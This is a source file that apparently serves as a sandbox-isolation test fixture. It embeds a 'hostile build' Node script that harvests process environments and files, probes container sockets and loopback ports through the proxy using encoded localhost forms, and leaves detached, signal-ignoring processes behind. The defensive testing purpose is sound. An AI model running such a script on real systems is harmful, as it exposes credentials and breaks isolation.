/**
 * The program of a hostile commit. It searches for everything that a worker must hide, and writes
 * what it found to report.json. `loot.json` tells it where to look, so that it needs no luck.
 */
export const hostileBuild = `
const fs = require('node:fs');
const net = require('node:net');
const { spawn } = require('node:child_process');
const loot = JSON.parse(fs.readFileSync('loot.json', 'utf8'));
const found = [];
const keep = (kind, text) => found.push([kind, String(text).slice(0, 20_000)]);
const attempt = (kind, work) => { try { keep(kind, work()); } catch {} };

for (const [kind, path] of Object.entries(loot.files)) {
  attempt(kind, () => fs.readFileSync(path, 'utf8'));
  attempt(kind, () => { fs.accessSync(path, fs.constants.W_OK); return loot.mark + 'may be written'; });
}
for (const pid of fs.readdirSync('/proc').filter((name) => /^\\d+$/.test(name))) {
  attempt('environment of a process', () => fs.readFileSync('/proc/' + pid + '/environ', 'utf8'));
  attempt('command line of a process', () => fs.readFileSync('/proc/' + pid + '/cmdline', 'utf8'));
}
attempt('memory of the worker', () => fs.readFileSync('/proc/' + loot.worker + '/maps', 'utf8') && loot.mark + 'maps');
attempt('open files of the worker', () => fs.readdirSync('/proc/' + loot.worker + '/fd').length && loot.mark + 'fd');
attempt('signals to the worker', () => process.kill(loot.worker, 0) && loot.mark + 'signal');
for (const path of ['/var/run/docker.sock', '/run/docker.sock', '/run/podman/podman.sock'])
  attempt('container engine', () => fs.statSync(path) && loot.mark + 'there');
const walk = (path, depth) => {
  if (depth > 8) return;
  for (const entry of fs.readdirSync(path, { withFileTypes: true })) {
    const inner = path + '/' + entry.name;
    if (inner.startsWith(process.cwd() + '/')) continue;
    if (entry.isDirectory()) attempt('directory', () => walk(inner, depth + 1));
    else if (entry.isFile() && fs.statSync(inner).size < 1e6)
      attempt('file that it came across', () => fs.readFileSync(inner, 'utf8'));
  }
};
// Without isolation, the whole disk would be in view: then only the known places are searched.
if (loot.walks) for (const root of ['/root', '/home', '/tmp', '/var', '/run', '/srv', '/opt', '/etc']) attempt('', () => walk(root, 0));

const { HTTP_PROXY } = process.env;
const speak = (kind, where, text) =>
  new Promise((done) => {
    const socket = net.connect(where);
    const end = () => { socket.destroy(); done(); };
    socket.setTimeout(3000, end);
    socket.on('connect', () => socket.write(text)).on('error', end).on('close', end);
    socket.on('data', (chunk) => keep(kind, chunk));
  });
const { port } = loot;
const gateway = HTTP_PROXY ? { host: '127.0.0.1', port: Number(new URL(HTTP_PROXY).port) } : null;
const asks = [
  speak('socket of an engine', { path: loot.socket }, 'hello'),
  speak('abstract socket', { path: '\\0' + loot.abstract }, 'hello'),
  ...['127.0.0.1', ...loot.addresses].map((host) => speak('port of this machine', { host, port }, 'hello')),
];
for (const host of ['127.0.0.1', 'localhost', '[::1]', '0.0.0.0', '0x7f000001', '2130706433', '[::ffff:127.0.0.1]', ...loot.addresses])
  if (gateway) {
    const place = host + ':' + port;
    asks.push(speak('port of this machine by the gateway', gateway, 'CONNECT ' + place + ' HTTP/1.1\\r\\nhost: ' + place + '\\r\\n\\r\\nhello'));
    asks.push(speak('port of this machine by the gateway', gateway, 'GET http://' + place + '/ HTTP/1.1\\r\\nhost: ' + place + '\\r\\nconnection: close\\r\\n\\r\\n'));
  }
const late = 'sleep 3; echo ' + loot.mark + 'late > ' + loot.late + '; sleep 60';
spawn('setsid', ['sh', '-c', 'setsid sh -c "$0" ' + loot.mark + 'left & exit', late], { detached: true, stdio: 'ignore' }).unref();
spawn('sh', ['-c', 'trap "" TERM HUP INT; sleep 60; : ' + loot.mark + 'left'], { detached: true, stdio: 'ignore' }).unref();
Promise.all(asks).then(() => setTimeout(() => {
  fs.writeFileSync('report.json', JSON.stringify(found));
  process.exit(0);
}, 300));
`;
